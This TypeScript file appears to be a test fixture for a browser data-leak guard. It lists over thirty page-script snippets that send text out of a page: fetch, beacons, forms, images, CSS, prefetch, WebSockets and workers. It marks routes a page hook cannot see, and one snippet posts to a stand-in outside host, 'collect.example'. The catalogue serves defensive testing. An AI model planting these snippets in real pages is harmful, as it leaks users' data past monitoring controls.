/** One way out of a page, as the page's own code would take it. `run` runs in the page on `text`. */
export interface WayOut {
  name: string;
  run: string;
  /** Not to be had in Firefox. */
  only?: 'chromium';
  /** Chromium shows nobody what goes this way, and no script of the page's could be asked: it is shut to everything. */
  unseen?: true;
}

const api = `location.origin + '/api/x'`;
const query = `${api} + '?q=' + encodeURIComponent(text)`;
const post = (body: string, more = ''): string =>
  `fetch(${api}, { method: 'POST', body: ${body}${more} }).catch(() => {})`;
const file = `new File([text], 'pages.txt', { type: 'text/plain' })`;
const blob = `new Blob([text])`;
const form = `const f = new FormData(); f.append('note', 'see file'); f.append('file', ${file});`;
const link = (rel: string, more = ''): string =>
  `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: ${query}${more} }))`;
const frameForm = (inside: string, enctype: string): string =>
  `const t = document.createElement('iframe'); t.name = 'away'; document.body.append(t);
   const f = Object.assign(document.createElement('form'), { method: 'post', action: '/api/x', target: 'away', enctype: '${enctype}' });
   ${inside}`;
const field = `f.append(Object.assign(document.createElement('textarea'), { name: 'p', value: text })); document.body.append(f); f.requestSubmit()`;
const picked = `const i = Object.assign(document.createElement('input'), { type: 'file', name: 'f' }); f.append(i);
   const d = new DataTransfer(); d.items.add(${file}); i.files = d.files;`;
/** The guard gives a judged file back a moment later. */
const giveAndSend = `document.body.append(f); i.dispatchEvent(new Event('change', { bubbles: true })); setTimeout(() => f.requestSubmit(), 3000);`;

/** A worker's own code is out of the page hook's reach. */
const inWorker = (body: string): string =>
  `const code = 'onmessage = ({ data: text }) => fetch("' + location.origin + '/api/x", { method: "POST", body: ${body} })';
   new Worker(URL.createObjectURL(new Blob([code]))).postMessage(text)`;
const inSharedWorker = (body: string): string =>
  `const code = 'onconnect = ({ ports: [port] }) => { port.onmessage = ({ data: text }) => fetch("' + location.origin + '/api/x", { method: "POST", body: ${body} }) }';
   const { port } = new SharedWorker(URL.createObjectURL(new Blob([code])), 'w' + Math.random()); port.start(); port.postMessage(text)`;
const inServiceWorker = (asBlob: boolean): string =>
  `navigator.serviceWorker.register('/_page/service-worker.js').then(async (r) => {
     const worker = r.active ?? r.waiting ?? r.installing;
     while (worker.state !== 'activated') await new Promise((again) => setTimeout(again, 20));
     worker.postMessage({ text, asBlob: ${asBlob} });
   })`;
/** A frame's built-ins, taken by index: not by the door the page hook watches. */
const byFrame = (body: string): string =>
  `document.body.append(document.createElement('iframe'));
   frames[frames.length - 1].fetch(${api}, { method: 'POST', body: ${body} }).catch(() => {})`;

/** Every way out this project knows of; each is tried with what may not leave, and with what may. */
export const waysOut: readonly WayOut[] = [
  { name: 'fetch, text', run: post('text') },
  { name: 'fetch, Blob', run: post(blob) },
  { name: 'fetch, form with a file', run: `${form} ${post('f')}` },
  { name: 'fetch, bytes', run: post('new TextEncoder().encode(text)') },
  { name: 'fetch, stream', run: post(`${blob}.stream()`, `, duplex: 'half'`) },
  { name: 'fetch, keepalive', run: post('text', ', keepalive: true') },
  { name: 'fetch, address', run: `fetch(${query}).catch(() => {})` },
  {
    name: 'fetch, another host',
    run: `fetch('https://collect.example/x', { method: 'POST', mode: 'no-cors', body: text }).catch(() => {})`,
  },
  { name: 'XMLHttpRequest, text', run: `const x = new XMLHttpRequest(); x.open('POST', '/api/x'); x.send(text)` },
  { name: 'XMLHttpRequest, Blob', run: `const x = new XMLHttpRequest(); x.open('PUT', '/api/x'); x.send(${blob})` },
  { name: 'beacon, text', run: `navigator.sendBeacon('/api/x', text)` },
  { name: 'beacon, Blob', run: `navigator.sendBeacon('/api/x', ${blob})` },
  { name: 'form in a frame, fields', run: frameForm(field, 'application/x-www-form-urlencoded') },
  { name: 'form in a frame, file', run: frameForm(picked + giveAndSend, 'multipart/form-data') },
  {
    name: 'frame’s address',
    run: `document.body.append(Object.assign(document.createElement('iframe'), { src: ${query} }))`,
  },
  { name: 'navigation', run: `location.href = ${query}` },
  {
    name: 'link that pings',
    run: `const a = Object.assign(document.createElement('a'), { href: '#', ping: ${query} }); document.body.append(a); a.click()`,
    only: 'chromium',
  },
  {
    name: 'WebSocket, address',
    run: `try { new WebSocket('wss://' + location.host + '/ws?q=' + encodeURIComponent(text)) } catch {}`,
  },
  {
    name: 'WebSocket, frame',
    run: `const s = new WebSocket('wss://' + location.host + '/ws'); s.onopen = () => s.send(text)`,
  },
  { name: 'EventSource', run: `try { new EventSource(${query}) } catch {}` },
  { name: 'image', run: `new Image().src = ${query}` },
  {
    name: 'media',
    run: `document.body.append(Object.assign(document.createElement('video'), { src: ${query}, preload: 'auto' }))`,
  },
  { name: 'CSS', run: `document.body.style.backgroundImage = 'url("' + ${query} + '")'` },
  { name: 'style sheet', run: link('stylesheet') },
  { name: 'script', run: `document.head.append(Object.assign(document.createElement('script'), { src: ${query} }))` },
  { name: 'dynamic import', run: `import(${query}).catch(() => {})` },
  { name: 'prefetch', run: link('prefetch') },
  { name: 'preload', run: link('preload', `, as: 'fetch', crossOrigin: 'anonymous'`) },
  {
    name: 'speculation rules',
    run: `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
      textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [${query}], eagerness: 'immediate' }] }) }))`,
    only: 'chromium',
  },
  { name: 'worker, text', run: inWorker('text') },
  { name: 'worker, Blob', run: inWorker('new Blob([text])'), unseen: true },
  { name: 'shared worker, text', run: inSharedWorker('text') },
  { name: 'shared worker, Blob', run: inSharedWorker('new Blob([text])'), unseen: true },
  { name: 'service worker, text', run: inServiceWorker(false) },
  { name: 'service worker, Blob', run: inServiceWorker(true), unseen: true },
  { name: 'fresh frame, text', run: byFrame('text') },
  { name: 'fresh frame, Blob', run: byFrame(blob), unseen: true },
];
